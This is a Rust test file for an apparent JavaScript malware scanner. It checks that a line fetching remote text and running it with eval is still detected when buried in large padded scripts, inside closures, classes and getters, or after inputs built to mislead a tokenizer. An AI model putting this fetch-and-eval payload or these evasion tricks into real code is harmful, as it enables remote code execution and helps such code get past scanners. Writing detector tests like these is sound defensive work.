//! Large scripts are read without the functions that can do nothing, and nothing is lost by it.

use lurescan::analyse::flow::{Labels, Sink};
use lurescan::analyse::{Facts, analyse};
use lurescan::artifact::{Kind, Text};
use lurescan::limits;

use crate::subject::artifact;

const PAYLOAD: &str = "fetch('https://api.invalid/x').then((r) => r.text()).then((t) => eval(t));";

fn facts(source: &str) -> Facts {
    analyse(&artifact("lib.js", Kind::JavaScript, source.as_bytes()), &Text::new(source.as_bytes()), true).facts
}

/// An honest library, large enough to be read in part, around `inner`.
fn padded(inner: &str) -> String {
    let mut source = String::from("'use strict';\nconst join = require('./join.js');\n");
    let mut number = 0;
    let mut add = |source: &mut String, until: usize| {
        while source.len() <= until {
            source.push_str(&format!(
                "exports.part{number} = function (list, value) {{\n  const first = list[{number}];\n  \
                 alert('shown', first / 2);\n  for (const one of list) {{ value += one.size * {number}; }}\n  \
                 return join(String(first), value) + list.map((one) => one.name);\n}};\n"
            ));
            number += 1;
        }
    };
    add(&mut source, limits::PRUNED_BYTES / 2);
    source.push_str(inner);
    source.push('\n');
    add(&mut source, limits::PRUNED_BYTES + 1_000);
    source + "list[kind](value);\n"
}

fn runs_remote_text(facts: &Facts) -> bool {
    facts.flows.iter().any(|flow| flow.sink == Sink::Code && flow.labels.any(Labels::REMOTE))
}

#[test]
fn functions_that_name_nothing_are_left_out_of_a_large_script() {
    let facts = facts(&padded("alert('top');"));
    assert!(facts.parsed.is_some());
    let alerts = facts.calls.iter().filter(|call| call.callee == "alert").count();
    assert_eq!(alerts, 1, "the statements at the top stay");
    let import = facts.imports.iter().find(|import| import.specifier == "./join.js");
    assert_eq!(import.expect("it is loaded").names, ["join"], "what only functions use is used");
}

#[test]
fn what_acts_is_found_wherever_it_stands_in_a_large_script() {
    for inner in [
        PAYLOAD.to_owned(),
        format!("exports.go = function () {{ {PAYLOAD} }};"),
        format!("exports.go = function (a) {{ return a.map((b) => {{ const c = b.id; {PAYLOAD} return c; }}); }};"),
        format!("class Loader {{ constructor(a) {{ this.a = a; {PAYLOAD} }} }} exports.Loader = Loader;"),
        "const cp = require('child_process'), e = eval;\nexports.go = function (a) { const list = a.map((b) => b.id); \
         fetch('https://api.invalid/x').then((r) => r.text()).then((t) => run(t)); return list; };\n\
         function run(t) { const list = []; for (const one of rows) { list.push(one.size); } e(t); return list.length; }"
            .to_owned(),
        format!("const o = {{ get value() {{ {PAYLOAD} }} }}; exports.o = o;"),
    ] {
        let source = padded(&inner);
        let facts = facts(&source);
        assert!(runs_remote_text(&facts), "{inner}");
        let flow = facts.flows.iter().find(|flow| flow.sink == Sink::Code).expect("there is one");
        assert!(["eval(t)", "e(t)"].contains(&&source[flow.span.clone()]), "places stay what they are");
    }
}

#[test]
fn nothing_that_misleads_a_tokenizer_hides_what_follows() {
    for lead in [
        "if (a) /[\"'`{/*]/.test(b);",
        "if (a) { b(); } /'\"`{/.test(c);",
        "a++ / 2; b = \"/\"; c = '`';",
        "const f = () => {}\n/`'\"/.test(d);",
        "const o = {} / 2; const p = '/';",
        "for (const q of w) /[}'\"`]/.exec(q);",
        "while (i --> 0) { i += \"'\" / 1; }",
        "const t = `${`${'`'}`} \\` ' \" {`;",
        "x = a\u{a0}/ '`' / 2;",
        "/* ' */ // \" ` {",
        "const s = 'it\\'s {'; const u = \"\\\\\";",
        "l: { } /'/.test(z);",
        "n = m.return / 2; k = '/ `';",
        "const \\u0061b = 1 / 2; // '",
        "async function w2() { await /'`\"/.test(1); }",
        "async function w3() { b = await (a) / 2; c = '/'; d = `'`; }",
        "while (a) { break\n/'\"`/.test(b); }",
        "var of = 4; b = of / 2; c = '/ `';",
        "class P { #in = 1; m() { return this.#in / 2 + '/ `'; } }",
        "b = 'x\\\r\n / { \" `';",
        "for (let i = 0; i++<9;) { b = 1<<2; }",
        "b = <a>// it's `</a>;",
        "<!-- it's {\n",
        "let z9 = 1\n--> it's `{\n",
    ] {
        let filler = "let total = 0; for (let i = 0; i < 9; i += 1) { total += i * 3; } return total;";
        let inner = format!(
            "function pad(a, b, c, d, i, m, w, z) {{ {filler} {lead}\n }}\n{lead}\nfunction go() {{ {PAYLOAD} }}\ngo();"
        );
        assert!(runs_remote_text(&facts(&padded(&inner))), "{lead}");
    }
}

#[test]
fn what_goes_into_a_function_that_was_left_out_may_come_out() {
    let long = "const parts = []; for (const one of text.rows) { parts.push(one.cells.join(', ')); } \
                if (parts.length > 9) { parts.pop(); }";
    for (inner, what) in [
        (format!("function shape(text) {{ {long} return text.body; }}\nrun((t) => shape(t));"), "a function"),
        (
            format!("function Shape(text) {{ {long} this.body = text; }}\nrun((t) => new Shape(t).body);"),
            "a constructor",
        ),
        (
            format!(
                "const o = {{ keep(text) {{ {long} this.body = text; }} }};\nrun((t) => {{ o.keep(t); return o.body; }});"
            ),
            "a method",
        ),
    ] {
        let run =
            "function run(way) { fetch('https://api.invalid/x').then((r) => r.text()).then((t) => eval(way(t))); }";
        assert!(runs_remote_text(&facts(&padded(&format!("{run}\n{inner}")))), "{what}");
    }
}
